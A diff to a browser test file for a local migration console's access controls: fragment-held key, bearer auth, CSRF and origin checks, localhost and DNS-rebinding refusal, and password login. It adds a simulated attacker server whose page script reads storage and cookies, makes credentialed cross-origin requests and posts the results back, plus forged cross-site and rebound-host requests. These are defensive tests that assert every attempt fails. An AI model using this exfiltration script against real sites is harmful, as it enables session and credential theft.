@@ -1,6 +1,9 @@
 /** The console as a person uses it, on a real database. */
-import { request } from 'node:http';
-import { describe, expect, it } from 'vitest';
+import { once } from 'node:events';
+import { readFileSync } from 'node:fs';
+import { createServer, request } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { describe, expect, it, onTestFinished } from 'vitest';
 import { THREE_PAIRS } from '../core/case.helpers.ts';
 import { newPage, openConsole, startFromForm, untilStatus, useBrowser, violations } from './browser.helpers.ts';
 
@@ -24,6 +27,13 @@ describe('a migration from the page', () => {
     await page.locator('[data-graph=executed] a[data-state=VerifyMigration]').click();
     await page.locator('#inspector').getByRole('cell', { name: 'LambdaFunctionSucceeded' }).waitFor();
 
+    const [report] = await Promise.all([
+      page.waitForEvent('download'),
+      page.getByRole('link', { name: 'Markdown' }).click(),
+    ]);
+    expect(report.suggestedFilename()).toMatch(/\.md$/);
+    expect(readFileSync(await report.path(), 'utf8')).toContain('path_fk');
+
     await page.getByRole('link', { name: 'Roll back' }).click();
     await page.getByText('The old foreign key comes back first').waitFor();
     expect(await page.locator('dl.facts').innerText()).toMatch(/Forecast\s+Strategy (attach|not-valid)/);
@@ -35,6 +45,7 @@ describe('a migration from the page', () => {
     );
 
     await page.getByRole('link', { name: 'Executions' }).click();
+    await page.locator('table.executions').waitFor();
     expect(await page.locator('table.executions tbody tr').count()).toBe(2);
     expect(await violations(page)).toEqual([]);
   });
@@ -104,60 +115,88 @@ describe('a migration from the page', () => {
 });
 
 describe('who is not to use it', () => {
-  it('is let in by the token only', async () => {
-    const { url } = await openConsole();
-    expect((await fetch(url)).status).toBe(403);
-    expect((await fetch(`${url}/?token=guessed`)).status).toBe(403);
-    expect((await fetch(`${url}/executions/x`)).status).toBe(403);
-  });
+  it('is let in by the key only, which no URL that reaches the server has', async () => {
+    const { url, entrance } = await openConsole();
+    const key = new URL(entrance).hash.slice('#token='.length);
+    const asked = (path: string, headers: Record<string, string> = {}) =>
+      fetch(`${url}${path}`, { headers, redirect: 'manual' });
+    for (const path of ['/', '/?token=guessed', `/?token=${key}`, '/executions/x', '/start', '/login']) {
+      const refused = await asked(path, { cookie: `p2pfk=${key}`, authorization: 'Bearer guessed' });
+      expect({ status: refused.status, cookie: refused.headers.get('set-cookie') }).toEqual({
+        status: 403,
+        cookie: null,
+      });
+      expect(await refused.text()).not.toMatch(/Nothing has run|csrf/);
+    }
+    expect(await (await asked('/', { authorization: `Bearer ${key}` })).text()).toContain('Nothing has run here yet');
 
-  it('gets a cookie that no other site can send along', async () => {
-    const { entrance } = await openConsole();
-    const answer = await fetch(entrance, { redirect: 'manual' });
-    expect(answer.status).toBe(303);
-    expect(answer.headers.get('set-cookie')).toMatch(/HttpOnly/);
-    expect(answer.headers.get('set-cookie')).toMatch(/SameSite=Strict/);
+    const page = await newPage();
+    await page.goto(url);
+    await page.getByRole('heading', { name: 'Access denied' }).waitFor();
+    expect(await violations(page)).toEqual([]);
   });
 
   it('cannot start anything from another site, or without the token of the form', async () => {
     const { url, entrance } = await openConsole();
-    const cookie = (await fetch(entrance, { redirect: 'manual' })).headers.get('set-cookie')?.split(';')[0] ?? '';
-    const post = (origin: string, body: string): Promise<number> =>
+    const authorization = `Bearer ${new URL(entrance).hash.slice('#token='.length)}`;
+    const post = (origin: string, body: string, headers: Record<string, string> = { authorization }): Promise<number> =>
       fetch(`${url}/start`, {
         method: 'POST',
         redirect: 'manual',
-        headers: { cookie, origin, 'content-type': 'application/x-www-form-urlencoded' },
+        headers: { ...headers, origin, 'content-type': 'application/x-www-form-urlencoded' },
         body,
       }).then((answer) => answer.status);
-    const form = await (await fetch(`${url}/start`, { headers: { cookie } })).text();
+    const form = await (await fetch(`${url}/start`, { headers: { authorization } })).text();
     const [, token] = /name="csrf" value="([^"]+)"/.exec(form) ?? [];
 
     expect(await post('https://elsewhere.example', `table=path&csrf=${token}`)).toBe(403);
     expect(await post(url, 'table=path')).toBe(403);
     expect(await post(url, 'table=path&csrf=guessed')).toBe(403);
-    const list = await (await fetch(url, { headers: { cookie } })).text();
+    expect(await post(url, `table=path&csrf=${token}`, {})).toBe(403);
+    const list = await (await fetch(url, { headers: { authorization } })).text();
     expect(list).toContain('Nothing has run here yet');
+  });
+
+  it('learns nothing from the browser by a server on another port of this machine, and can do nothing through it', async () => {
+    const { url, entrance } = await openConsole();
+    const key = new URL(entrance).hash.slice('#token='.length);
+    const thief = await openThief(url);
+    const page = await newPage({}, /status of 4\d\d|Failed to load|blocked/);
+    await page.goto(entrance);
+    await page.getByText('Nothing has run here yet').waitFor();
+
+    // In the same tab, which has the key for the console's origin, and in the same browser.
+    for (const place of [thief.url, thief.url.replace('127.0.0.1', 'localhost')]) {
+      await page.goto(`${place}/land`, { waitUntil: 'load' });
+      await page.getByText('all was tried').waitFor();
+    }
+    expect(thief.seen.length).toBeGreaterThan(3);
+    for (const seen of thief.seen) {
+      expect(seen).not.toContain(key);
+      expect(seen).not.toMatch(/p2pfk-|^cookie/im);
+    }
+    await page.goto(url);
+    await page.getByText('Nothing has run here yet').waitFor();
+    // What it could have learnt from a request that the browser sends along does not get in either.
+    const { host } = new URL(url);
+    const cookies = (await page.context().cookies()).map(({ name, value }) => `${name}=${value}`).join('; ');
+    expect((await fetch(`http://${host}/start`, { headers: { cookie: cookies } })).status).toBe(403);
+  });
+
+  it('does not get it through localhost, where another server may listen', async () => {
+    const { url } = await openConsole();
+    const { port } = new URL(url);
+    for (const host of [`localhost:${port}`, `[::1]:${port}`]) {
+      const { status, text } = await askAs(host, port);
+      expect({ status, text }).toEqual({ status: 403, text: expect.stringContaining('Open this page at 127.0.0.1') });
+    }
   });
 
   it('does not get in by a name that is made to point at this machine', async () => {
     const { url, entrance } = await openConsole();
     const { port } = new URL(url);
     const { pathname, search } = new URL(entrance);
-    const status = await new Promise<number | undefined>((resolve, reject) => {
-      const asked = request({
-        host: '127.0.0.1',
-        port,
-        path: `${pathname}${search}`,
-        headers: { host: 'rebound.example' },
-      });
-      asked.on('response', (answer) => {
-        answer.resume();
-        resolve(answer.statusCode);
-      });
-      asked.on('error', reject);
-      asked.end();
-    });
-    expect(status).toBe(403);
+    expect(await askAs('rebound.example', port, `${pathname}${search}`)).toMatchObject({ status: 403 });
   });
 
   it('needs the password, where there is one', async () => {
@@ -166,10 +205,71 @@ describe('who is not to use it', () => {
     await page.goto(url);
     await page.getByLabel('Password of this console').fill('wrong horse battery');
     await page.getByRole('button', { name: 'Sign in' }).click();
-    await page.getByText('The password is not right.').waitFor();
+    await page.getByText('Incorrect password.').waitFor();
     expect(await violations(page)).toEqual([]);
     await page.getByLabel('Password of this console').fill('correct horse battery');
     await page.getByRole('button', { name: 'Sign in' }).click();
     await page.getByText('Nothing has run here yet').waitFor();
+    await page.getByRole('link', { name: 'Start', exact: true }).click();
+    await page.getByLabel('Table').waitFor();
   });
 });
+
+/** A GET of `path` that names `host`. */
+function askAs(
+  host: string,
+  port: string,
+  path = '/',
+): Promise<{ readonly status: number | undefined; readonly text: string }> {
+  return new Promise((resolve, reject) => {
+    const asked = request({ host: '127.0.0.1', port, path, headers: { host } });
+    asked.on('response', (answer) => {
+      let text = '';
+      answer.setEncoding('utf8').on('data', (chunk: string) => {
+        text += chunk;
+      });
+      answer.on('end', () => resolve({ status: answer.statusCode, text }));
+    });
+    asked.on('error', reject);
+    asked.end();
+  });
+}
+
+/** Another user's server on another port: its page tries what a page can, and tells its server what it has learnt. */
+async function openThief(victim: string) {
+  const seen: string[] = [];
+  const script = `
+    const tell = (text) => fetch('/told', { method: 'POST', body: String(text) });
+    const attempts = [
+      () => JSON.stringify(sessionStorage) + JSON.stringify(localStorage) + document.cookie + document.referrer,
+      () => fetch('${victim}/start', { credentials: 'include' }).then((answer) => answer.text()),
+      () => fetch('${victim}/start', { credentials: 'include', mode: 'no-cors' }).then((answer) => answer.text()),
+      () => fetch('${victim}/start', { method: 'POST', credentials: 'include', mode: 'no-cors', body: new URLSearchParams({ table: 'path' }) }).then((answer) => answer.text()),
+      () => new Promise((resolve) => { const frame = document.createElement('iframe'); frame.src = '${victim}/start'; frame.onload = () => { try { resolve(frame.contentDocument.body.innerHTML + frame.contentWindow.sessionStorage.length); } catch (error) { resolve(error); } }; document.body.append(frame); }),
+      () => new Promise((resolve) => { const opened = open('${victim}/start'); setTimeout(() => { try { resolve(opened.document.body.innerHTML); } catch (error) { resolve(error); } }, 500); }),
+    ];
+    (async () => {
+      for (const attempt of attempts) await tell(await Promise.resolve().then(attempt).catch((error) => error));
+      document.body.append('all was tried');
+    })();`;
+  const server = createServer((asked, answer) => {
+    let body = '';
+    asked.on('data', (chunk) => {
+      body += chunk;
+    });
+    asked.on('end', () => {
+      seen.push(`${asked.rawHeaders.join('\n')}\n${body}`);
+      const page = `<!doctype html><title>land</title><link rel="icon" href="data:,"><body><img src="/steal" alt=""><script>${script}</script>`;
+      answer.writeHead(200, { 'content-type': asked.url === '/steal' ? 'image/gif' : 'text/html' });
+      answer.end(asked.url === '/land' ? page : '');
+    });
+  });
+  server.listen(0);
+  await once(server, 'listening');
+  onTestFinished(() => {
+    server.closeAllConnections();
+    server.close();
+  });
+  const { port } = server.address() as AddressInfo;
+  return { url: `http://127.0.0.1:${port}`, seen };
+}
